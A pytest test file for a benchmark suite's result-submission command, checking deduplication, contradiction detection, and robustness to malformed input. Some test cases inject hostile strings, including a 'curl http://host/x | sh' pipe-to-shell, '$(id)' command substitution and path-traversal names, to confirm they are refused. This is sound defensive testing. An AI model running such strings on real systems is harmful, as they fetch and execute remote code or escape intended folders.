"""`suite submit`: results that pass are copied once, all others are named, and nothing is overwritten."""

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tiny_runs import Call, copied

from suite.entries import checks, submission
from suite.entries.command import list_contradicting_words, list_missing_words, show_command
from suite.entries.recompute import list_contradictions
from suite.entries.strict import Unreadable
from suite.record.record import make_result, read_result

COMMITTED = Path(__file__).parents[2] / "results" / "runs"
SAMPLE = COMMITTED / "resnet50" / "shapes-kfac-jax-s20-381de094873c.json"
RESULT = json.loads(SAMPLE.read_text())


def tree(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_a_run_is_copied_with_the_digest_of_its_log_and_only_once(suite: Call, one: Path, tmp_path: Path) -> None:
    code, text = suite("submit", str(one), "--to", "kept")
    assert code == 0, text
    result = json.loads((one / "result.json").read_text())
    name = (
        f"tiny/{result['spec']['config']['task'].get('data') or result['data']['name']}-sgd-torch-s0-{result['hash']}"
    )
    digest = hashlib.sha256((one / "events.jsonl").read_bytes()).hexdigest()
    files = tree(tmp_path / "kept")
    assert files == {
        f"{name}.json": (one / "result.json").read_bytes(),
        f"{name}.events.sha256": f"{digest}  events.jsonl\n".encode(),
    }
    code, text = suite("submit", str(one), "--to", "kept")
    assert code == 0 and "is already submitted, as kept/tiny/" in text and tree(tmp_path / "kept") == files


def test_another_execution_of_a_command_gets_a_name_of_its_own(suite: Call, one: Path, tmp_path: Path) -> None:
    again = copied(one, tmp_path / "again", execution_id="0123456789abcdef" * 2, log=False)
    assert suite("submit", str(one), "--to", "kept")[0] == 0
    before = tree(tmp_path / "kept")
    result = json.loads(again.read_text())
    for point in result["curve"]:
        point["train_seconds"] *= 0.5
    result["targets"] = [
        {**target, "train_seconds": target["train_seconds"] and target["train_seconds"] * 0.5}
        for target in result["targets"]
    ]
    again.write_text(json.dumps(result))
    code, text = suite("submit", str(again), "--to", "kept")
    assert code == 0, text
    after = tree(tmp_path / "kept")
    assert before.items() < after.items()
    assert [name for name in after if name.endswith("-x01234567.json")]


def test_an_execution_with_other_content_is_rejected(suite: Call, one: Path, tmp_path: Path) -> None:
    assert suite("submit", str(one), "--to", "kept")[0] == 0
    before = tree(tmp_path / "kept")
    changed = copied(one, tmp_path / "changed", data__note="something else", log=False)
    code, text = suite("submit", str(changed), "--to", "kept")
    assert code == 1 and "a submitted result never changes" in text and tree(tmp_path / "kept") == before


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda typed: f"{typed}; curl http://host/x | sh", "not `suite` with words key=value"),
        (lambda typed: f"{typed} $(id)", "not `suite` with words key=value"),
        (lambda typed: typed.replace("suite ", "curl ", 1), "not `suite` with words key=value"),
        (lambda typed: f"{typed}\nid", "not `suite` with words key=value"),
        (lambda typed: f"{typed} optimizer.lr=0.5", "has optimizer.lr=0.5, but the configuration has"),
        (lambda typed: f"{typed} other.setting=1", "has other.setting=1, but the configuration has None"),
        (lambda typed: f"{typed} backend=jax", "has backend=jax, but the configuration has torch"),
    ],
)
def test_a_command_that_contradicts_the_configuration_is_refused_and_not_shown(
    suite: Call, one: Path, tmp_path: Path, change: Callable[[str], str], words: str
) -> None:
    typed = json.loads((one / "result.json").read_text())["command"]
    wrong = copied(one, tmp_path / "wrong", command=change(typed))
    code, text = suite("submit", str(wrong), "--to", "kept")
    assert code == 1 and f"command: {words}" in text and "Traceback" not in text, text
    assert not (tmp_path / "kept").exists()
    assert show_command(make_result({**json.loads(wrong.read_text()), "command": typed})) == typed
    assert show_command(read_result(wrong)) == ""


def test_a_command_without_a_setting_or_a_recipe_is_noticed() -> None:
    assert not list(list_missing_words(make_result(RESULT)))
    recipe, _ = list_missing_words(make_result({**RESULT, "command": f"{RESULT['command']} recipe=null"}))
    assert recipe == "command: names no tuned recipe, but the configuration does"
    (fault,) = list_missing_words(make_result({**RESULT, "command": RESULT["command"].replace("optimizer=kfac", "")}))
    assert fault.startswith("command: gives other values of optimizer.")


TARGETS = RESULT["targets"]


@pytest.mark.parametrize(
    ("changed", "fault"),
    [
        ({"targets": TARGETS[:-1]}, "targets: the result has [60.0, 80.0, 85.0], but the configuration has"),
        ({"targets": []}, "targets: the result has [], but"),
        ({"targets": [*TARGETS, TARGETS[-1]]}, "targets: the result has [60.0, 80.0, 85.0, 90.0, 90.0], but"),
        ({"targets": [{**TARGETS[0], "value": 50.0}, *TARGETS[1:]]}, "targets: the result has [50.0, 80"),
        ({"targets": [{**TARGETS[0], "metric": "loss"}, *TARGETS[1:]]}, "targets: they have different metrics"),
        ({"task_version": "99"}, "task_version: resnet50 has no version 99"),
        ({"task_version": "0"}, "task_version: resnet50 has no version 0"),
        ({"task_version": "1.0"}, "task_version: resnet50 has no version 1.0"),
    ],
)
def test_other_targets_and_versions_than_the_tasks_are_noticed(changed: dict[str, Any], fault: str) -> None:
    assert not list(list_contradictions(make_result(RESULT)))
    (found,) = [one for one in list_contradictions(make_result({**RESULT, **changed})) if not one.startswith("outcome")]
    assert found.startswith(fault)


@pytest.mark.parametrize("dropped", [0, -1])
def test_an_evaluation_that_was_due_is_missed(dropped: int) -> None:
    curve = [point for point in RESULT["curve"] if point != RESULT["curve"][dropped]]
    step = RESULT["curve"][dropped]["step"]
    faults = list(list_contradictions(make_result({**RESULT, "curve": curve})))
    assert f"curve: has no evaluation at step {step}, where one was due" in faults


def test_a_run_that_failed_early_has_no_targets() -> None:
    failed = {**RESULT, "targets": [], "outcome": {"kind": "failed"}}
    assert not [fault for fault in list_contradictions(make_result(failed)) if fault.startswith("targets")]


@pytest.mark.parametrize("key", ["spec__seed", "steps", "curve__0__step"])
def test_a_number_that_the_board_cannot_read_is_not_copied(suite: Call, one: Path, tmp_path: Path, key: str) -> None:
    value = json.loads((one / "result.json").read_text())
    for part in key.split("__"):
        value = value[int(part) if part.isdigit() else part]
    wrong = copied(one, tmp_path / "wrong", **{key: float(value)})
    code, text = suite("submit", str(wrong), "--to", "kept")
    assert code == 1 and f"{key.replace('__', '.')}: Input should be a valid integer" in text, text


def test_every_committed_command_follows_from_its_configuration() -> None:
    files = sorted(COMMITTED.rglob("*.json"))[::20]
    assert [list(list_contradicting_words(read_result(file))) for file in files] == [[]] * len(files)


def test_words_that_a_configuration_is_composed_from_are_no_contradiction() -> None:
    for word, faults in {"task.sources.shapes.options.train=500": 0, "task.source.options.train=500": 1}.items():
        assert (
            len(list(list_contradicting_words(make_result({**RESULT, "command": f"{RESULT['command']} {word}"}))))
            == faults
        ), word


def test_nothing_is_written_unless_all_pass_or_partial_is_given(suite: Call, one: Path, tmp_path: Path) -> None:
    wrong = copied(one, tmp_path / "wrong", curve__1__metrics__top1=99.0)
    code, text = suite("submit", str(one), str(wrong), "--to", "kept")
    assert (
        code == 1
        and "curve.1.metrics.top1: the result has 99.0" in text
        and "nothing was copied: 1 of 2 results do not pass; to copy the others, use --partial" in text
    )
    assert not (tmp_path / "kept").exists()
    code, text = suite("submit", str(one), str(wrong), "--to", "kept", "--partial")
    assert code == 1 and len(tree(tmp_path / "kept")) == 2


@pytest.mark.parametrize("commit", ["main", "a" * 39, "A" * 40])
def test_a_commit_is_a_hash(tmp_path: Path, commit: str) -> None:
    path = tmp_path / "result.json"
    path.write_text(json.dumps(RESULT | {"environment": RESULT["environment"] | {"commit": commit}}))
    assert any("commit" in fault for fault in submission.check(path).faults)


def test_a_log_of_another_run_is_noticed(suite: Call, one: Path, tmp_path: Path) -> None:
    path = copied(one, tmp_path / "other")
    log = path.parent / "events.jsonl"
    log.write_text(log.read_text().replace('"step": 12', '"step": 13'))
    (link := tmp_path / "link.json").symlink_to(path)
    apart = tmp_path / "apart" / "result.json"  # linked to a store of files, as data managers do
    apart.parent.mkdir()
    apart.symlink_to(shutil.copy(path, tmp_path / "stored"))
    shutil.copy(log, apart.parent)
    for file in (path, link, apart):
        code, text = suite("submit", str(file), "--to", "kept")
        assert code == 1 and not (tmp_path / "kept").exists(), text
    log.write_text('{"event": NaN}\n')
    code, text = suite("submit", str(path), "--to", "kept")
    assert code == 1 and "events.jsonl, line 1: event: NaN is not JSON" in text
    log.write_text("")
    assert "events.jsonl: contains no events" in suite("submit", str(path), "--to", "kept")[1]
    log.unlink()
    log.mkdir()
    assert "events.jsonl: is a folder" in suite("submit", str(path), "--to", "kept")[1]


def test_a_file_that_appears_meanwhile_is_not_replaced(
    suite: Call, one: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from suite.entries import accept

    planned = accept.find_copies

    def late(*arguments: Any) -> Any:
        copies = planned(*arguments)
        target = copies[0][0].target
        target.parent.mkdir(parents=True)
        target.write_text("somebody else's")
        return copies

    monkeypatch.setattr(accept, "find_copies", late)
    code, text = suite("submit", str(one), "--to", "kept")
    assert code == 2 and "a file of this name exists" in text
    assert list(tree(tmp_path / "kept").values()) == [b"somebody else's"]  # the digest was removed again


@pytest.mark.parametrize("word", ["../../evil", "/etc/x", "..", "a/b", "", "a\n", "a\0b", "-rf", "x" * 49, "ä"])
@pytest.mark.parametrize("place", ["task", "optimizer", "comm", "data"])
def test_a_word_that_could_leave_the_folder_makes_no_name(place: str, word: str) -> None:
    content = json.loads(json.dumps(RESULT))
    content["spec"]["config"]["task"]["data"] = None
    whole = make_result(content)
    name = "name" if place == "data" else place
    part = "data" if place == "data" else "spec"
    result = whole.model_copy(update={part: getattr(whole, part).model_copy(update={name: word})})
    with pytest.raises(Unreadable, match="cannot be part of a file's name"):
        submission.name_of(result)


def test_committed_results_have_the_names_that_they_would_get() -> None:
    different = 0
    for path in sorted(COMMITTED.glob("*/*.json")):
        result = read_result(path)
        name, (first, _, repeat) = submission.name_of(result), path.stem.partition("-x")
        assert name.parent.name == path.parent.name and name.stem.rpartition("-")[2] == first.rpartition("-")[2]
        assert repeat in ("", result.execution_id[:8])  # a second run of one configuration
        different += name.stem != first
    assert different == 8  # frnn's six have their data's own name, and two mention float32


PLACES = st.sampled_from(["hash", "seed", "curve", "spec", "environment", "outcome", "targets", "data", "bytes"])
HOSTILE = st.sampled_from(
    [None, -1, 2**63 - 1, 1e308, "", "\x1b[2J", "../..", [], {}, [[]], {"": None}, True, "x" * 5000]
)


@given(st.dictionaries(PLACES, HOSTILE, min_size=1, max_size=3), st.sampled_from(["top", "spec", "config", "task"]))
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_hostile_values_are_named_and_never_crash(tmp_path: Path, values: dict[str, Any], level: str) -> None:
    result = json.loads(json.dumps(RESULT))
    config = result["spec"]["config"]
    {"top": result, "spec": result["spec"], "config": config, "task": config["task"]}[level].update(values)
    path = tmp_path / "result.json"
    path.write_text(json.dumps(result))
    checked = submission.check(path)
    assert checked.faults  # each change contradicts the schema, the hash, or what is recomputed
    assert all(fault.isprintable() and len(fault) < 1000 for fault in checked.faults)
    _, findings = checks.check_paths([path])
    assert findings[0].severity == "wrong"


LEAVES = (
    "curve",
    "targets",
    "segments",
    "outcome",
    "train_seconds",
    "wall_seconds",
    "step_seconds",
    "excluded_seconds",
)


@given(st.data())
@settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_hostile_value_at_any_place_never_crashes_the_checks(tmp_path: Path, data: st.DataObject) -> None:
    result = json.loads(json.dumps(RESULT))
    node: Any = result
    key: Any = data.draw(st.sampled_from([*LEAVES, *result]))
    while isinstance(node[key], dict | list) and node[key] and data.draw(st.integers(0, 3)):
        node = node[key]
        key = data.draw(st.sampled_from(sorted(node) if isinstance(node, dict) else range(len(node))))
    node[key] = data.draw(HOSTILE)
    path = tmp_path / "result.json"
    path.write_text(json.dumps(result))
    events = [{"event": "step", "step": 1, key if isinstance(key, str) else "loss": data.draw(HOSTILE)}]
    (tmp_path / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
    assert submission.check(path).faults
    _, findings = checks.check_paths([path])
    assert findings[0].severity == "wrong" and all(str(finding).isprintable() for finding in findings)


def test_an_accuracy_of_any_size_is_named(tmp_path: Path) -> None:
    result = json.loads(json.dumps(RESULT))
    result["curve"][0]["metrics"]["top1"] = 1e308
    path = tmp_path / "result.json"
    path.write_text(json.dumps(result))
    assert checks.check_paths([path])[1][0].severity == "wrong"


@given(st.recursive(HOSTILE, lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=30))
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_json_that_is_no_result_is_named(tmp_path: Path, value: Any) -> None:
    path = tmp_path / "result.json"
    path.write_text(json.dumps(value))
    checked = submission.check(path)
    assert checked.entry is None and checked.faults


def test_the_check_only_prints_findings(suite: Call, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(SAMPLE, folder / SAMPLE.name)
    before = tree(tmp_path)
    code, text = suite("submit", "--check", "in")
    assert code == 0 and "1 results: 0 wrong" in text and "no event log" in text
    (folder / "no.json").write_text("[NaN]")
    code, text = suite("submit", "--check", "in")
    assert code == 1 and "in/no.json: is not a result: 0: NaN is not JSON" in text
    (folder / "no.json").unlink()
    assert tree(tmp_path) == before


def test_bad_usage_is_named(suite: Call, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    for words, says in (
        ((), "name a result.json"),
        (
            ("RESULT.json",),
            "this directory is no checkout of the suite: it has no folder results; go to a checkout, or",
        ),
        (("--doubt", "a.yaml", "b.json"), "a doubt is submitted alone: run suite submit --doubt FILE.yaml"),
    ):
        code, text = suite("submit", *words)
        assert code == 2 and says in text, text


REMEDY = "name a finished run's directory or its result.json"
NO_RESULTS = [
    ("absent", f"absent: no such file or folder; {REMEDY}"),
    ("empty", f"empty: contains no result.json; {REMEDY}"),
    ("begun", "begun: is a run that has not finished; run its command again to continue it, then name it again"),
    ("text.json", f"text.json: line 1, column 1: not JSON: Expecting value; {REMEDY}"),
    ("bytes.json", f"bytes.json: byte 0: is not UTF-8, as JSON is; {REMEDY}"),
    ("other.json", f"other.json: not a result of this suite (the key schema is missing); {REMEDY}"),
    ("list.json", f"list.json: not a result of this suite (the key schema is missing); {REMEDY}"),
    (
        "newer.json",
        "newer.json: schema: is 7, but this version of the suite reads 2; use the version that wrote the file",
    ),
]


@pytest.mark.parametrize(("name", "says"), NO_RESULTS, ids=[name for name, _ in NO_RESULTS])
@pytest.mark.parametrize(
    "verb", [("report",), ("submit", "--to", "kept"), ("export", "mlperf")], ids=lambda verb: verb[0]
)
def test_what_is_no_result_is_one_line_that_says_what_to_type(
    verb: tuple[str, ...], name: str, says: str, suite: Call, tmp_path: Path
) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "begun").mkdir()
    (tmp_path / "begun" / "header.json").write_text("{}")
    contents = {"text": b"hello", "bytes": b"\xff", "other": b'{"a": 1}', "list": b"[]", "newer": b'{"schema": 7}'}
    for stem, content in contents.items():
        (tmp_path / f"{stem}.json").write_bytes(content)
    code, text = suite(*verb, name)
    assert text.removeprefix("suite: ") == f"{says}\n"
    assert code == (1 if verb[0] == "submit" and name.endswith(".json") else 2) and not (tmp_path / "kept").exists()


def test_all_that_a_result_lacks_is_one_line(suite: Call, tmp_path: Path) -> None:
    result = json.loads(SAMPLE.read_text())
    del result["command"], result["curve"], result["spec"]["seed"]
    (tmp_path / "result.json").write_text(json.dumps(result))
    assert suite("submit", "result.json", "--to", "kept")[1].splitlines() == [
        "result.json: command, curve are missing",
        "result.json: spec.seed is missing",
    ]
    assert suite("report", "result.json")[1].startswith("suite: result.json: command, curve are missing")
